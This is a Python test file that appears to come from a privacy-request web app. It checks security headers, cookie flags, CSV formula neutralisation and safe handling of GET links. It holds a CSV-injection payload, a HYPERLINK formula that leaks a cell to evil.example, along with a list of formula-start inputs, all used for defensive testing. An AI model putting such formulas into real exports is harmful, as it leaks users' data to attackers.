"""Attacks on the browser and the spreadsheet: framing, injected scripts, cookies sent in
clear, formulas in exports, and links that act when a mail scanner opens them.

Before the fix pages had no Content-Security-Policy, X-Frame-Options or HSTS; the login
form's and the privacy centre's cookies were never ``Secure``; a CSV export wrote a
person's ``=HYPERLINK(…)`` as a live formula; and ``GET /v1/art19/ack`` recorded an
acknowledgement for whoever (or whatever) opened the link.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import pyotp
import pytest
from sqlalchemy import create_engine, text

from pledge.csvcells import cell, writer
from tests.attacks.support import Target, served
from tests.web_support import PASSWORD

PAGES = ["/", "/privacy", "/admin/login", "/notice", "/consent/demo"]
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for your refund")'


@pytest.fixture
def target(tmp_path: Path) -> Iterator[Target]:
    with served(tmp_path) as t:
        yield t


def directives(header: str) -> dict[str, str]:
    return {part.strip().split(" ", 1)[0]: part.strip().partition(" ")[2] for part in header.split(";") if part.strip()}


def cookies(res: httpx.Response) -> dict[str, str]:
    """Set-Cookie values by cookie name."""
    return {value.split("=", 1)[0]: value for value in res.headers.get_list("set-cookie")}


def test_pages_have_a_strict_policy_and_cannot_be_framed(target: Target) -> None:
    with target.client() as http:
        for path in [*PAGES, "/docs", "/v1/consent/config", "/static/pledge.css", "/consent.js"]:
            res = http.get(path)
            assert res.status_code == 200, path
            assert res.headers.get("x-frame-options") == "DENY", path
            assert res.headers.get("x-content-type-options") == "nosniff", path
            assert res.headers.get("referrer-policy") == "no-referrer", path
            csp = directives(res.headers.get("content-security-policy", ""))
            assert csp.get("frame-ancestors") == "'none'" and csp.get("object-src") == "'none'", (path, csp)
            assert "strict-transport-security" not in res.headers, path  # http: no HSTS
        for path in ["/", "/privacy", "/admin/login", "/notice"]:
            csp = directives(http.get(path).headers["content-security-policy"])
            assert csp["script-src"] == "'self'" and csp["style-src"] == "'self'", (path, csp)
            assert csp["form-action"] == "'self'" and csp["base-uri"] == "'none'"


def test_an_https_deployment_sends_hsts_and_only_secure_cookies(tmp_path: Path) -> None:
    with served(tmp_path, base_url="https://privacy.example.org") as target, target.client() as http:
        home = http.get("/?lang=pl")
        assert home.headers["strict-transport-security"].startswith("max-age=31536000")
        login = http.get("/admin/login")
        privacy = http.get("/privacy")
        seen = {**cookies(home), **cookies(login), **cookies(privacy)}
        assert {"lang", "pledge_form"} <= set(seen), seen
        # the browser would keep these only for https; hand the form cookie back by hand to sign in
        form_cookie = cookies(login)["pledge_form"].split(";", 1)[0]
        csrf = login.text.split('name="csrf" value="', 1)[1].split('"', 1)[0]
        _, uri = target.engine.admins.create_user("owner@pledge.test", "owner", password=PASSWORD)
        signed_in = http.post("/admin/login", headers={"Cookie": form_cookie}, follow_redirects=False, data={
            "csrf": csrf, "email": "owner@pledge.test", "password": PASSWORD,
            "code": pyotp.TOTP(pyotp.parse_uri(uri).secret).at(target.engine.now())})
        assert signed_in.status_code == 303, signed_in.text
        seen.update(cookies(signed_in))
        assert "pledge_admin" in seen
        for name, value in seen.items():
            attributes = {a.strip().split("=")[0].lower() for a in value.split(";")[1:]}
            assert {"secure", "httponly", "samesite"} <= attributes, (name, value)


def test_cookies_over_plain_http_are_not_secure_but_still_http_only(target: Target) -> None:
    with target.client() as http:
        value = cookies(http.get("/admin/login"))["pledge_form"]
        assert "secure" not in value.lower() and "httponly" in value.lower() and "samesite" in value.lower()
        lang = cookies(http.get("/?lang=pl"))["lang"].lower()
        assert "httponly" in lang and "samesite=lax" in lang


def strings(value: object) -> list[str]:
    """Every string inside a JSON value."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


def test_a_formula_in_someones_data_reaches_the_access_package_csv_as_text(target: Target) -> None:
    person = target.platform_rows("SELECT id, email FROM users WHERE status = 'active' ORDER BY id LIMIT 1")[0]
    platform = create_engine(f"sqlite:///{target.cfg.parent / 'platform.db'}")
    with platform.begin() as conn:
        conn.execute(text("UPDATE users SET name = :n WHERE id = :id"), {"n": FORMULA, "id": person["id"]})
    platform.dispose()
    officer = target.engine.admins.create_api_key("officer", ["requests:read", "requests:approve", "exports:read"])
    with target.client() as http:
        created = http.post("/v1/requests", json={"kind": "access", "email": person["email"]})
        assert created.status_code == 201, created.text
        rid = created.json()["request"]["id"]
        verified = http.post(f"/v1/requests/{rid}/verify", json={"code": target.code_for(person["email"])})
        assert verified.status_code == 200, verified.text
        done = http.post(f"/v1/requests/{rid}/approve", headers={"Authorization": f"Bearer {officer}"})
        assert done.status_code == 200 and done.json()["download_url"], done.text
        package = zipfile.ZipFile(io.BytesIO(http.get(done.json()["download_url"]).content))
    found = []
    for name in package.namelist():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(package.read(name).decode())):
                found += [(name, value) for value in row if "HYPERLINK" in value]
        elif name.endswith(".json") and FORMULA in strings(json.loads(package.read(name))):
            found.append((name, "json: kept as it is"))
    csv_cells = [value for name, value in found if name.endswith(".csv")]
    assert csv_cells, f"the name is in no CSV of the package: {package.namelist()}"
    assert all(value == "'" + FORMULA for value in csv_cells), csv_cells
    assert any(name.endswith(".json") for name, _ in found)  # the JSON keeps the data exactly


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1"])
def test_every_formula_start_is_neutralised(value: str) -> None:
    buf = io.StringIO()
    writer(buf, lineterminator="\n").writerow([value, 5, -3, "plain", ""])
    row = next(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert row == ["'" + value, "5", "-3", "plain", ""]
    assert cell("a=b") == "a=b" and cell(None) is None


def _notice(target: Target) -> tuple[int, str]:
    """An Art. 19 notice as the email channel records it, and its ack link as the email gives it."""
    view = target.engine.requests.create("erasure", {"email": "someone@example.org"}, notify=False)
    store = create_engine(target.store_url)
    with store.begin() as conn:
        conn.execute(text("INSERT INTO art19_notices (request_id, recipient, channel, status, sent_at) "
                          "VALUES (:r, 'stripe', 'email', 'sent', :at)"),
                     {"r": view.row_id, "at": target.engine.now()})
        notice_id = int(conn.execute(text("SELECT max(id) FROM art19_notices")).scalar_one())
    store.dispose()
    token = target.engine.requests.notices.ack_token(notice_id)
    return notice_id, f"/v1/art19/ack?token={token}"  # what rights/notices.py mails as ack_url


def test_opening_the_art19_link_changes_nothing_until_the_button(target: Target) -> None:
    notice_id, link = _notice(target)
    acked = "SELECT acked_at FROM art19_notices WHERE id = :id"
    with target.client() as http:
        for _ in range(3):  # a mail scanner, a link preview, the person
            page = http.get(link, headers={"Accept": "text/html"})
            assert page.status_code == 200 and 'action="/art19/ack"' in page.text
        assert target.store_rows(acked, id=notice_id)[0]["acked_at"] is None
        assert target.store_rows("SELECT id FROM audit_log WHERE action = 'request.art19_acknowledged'") == []
        token = link.split("token=", 1)[1]
        pressed = http.post("/art19/ack", data={"token": token})
        assert pressed.status_code == 200 and "recorded" in pressed.text
        assert target.store_rows(acked, id=notice_id)[0]["acked_at"] is not None
        assert http.post("/art19/ack", data={"token": token + "x"}).status_code == 400


def test_no_page_changes_state_on_get(target: Target) -> None:
    """The GET routes of the app, opened as a crawler would, leave the store as it was."""
    _, link = _notice(target)
    audit = "SELECT count(*) AS n FROM audit_log"
    acked = "SELECT count(*) AS n FROM art19_notices WHERE acked_at IS NOT NULL"
    before = (target.store_rows(audit), target.store_rows(acked))
    with target.client() as http:
        routes = [r for r in http.get("/openapi.json").json()["paths"] if "{" not in r]
        for route in [*routes, *PAGES, "/admin", "/admin/metrics.csv", link]:
            assert http.get(route).status_code < 500, route
    assert (target.store_rows(audit), target.store_rows(acked)) == before
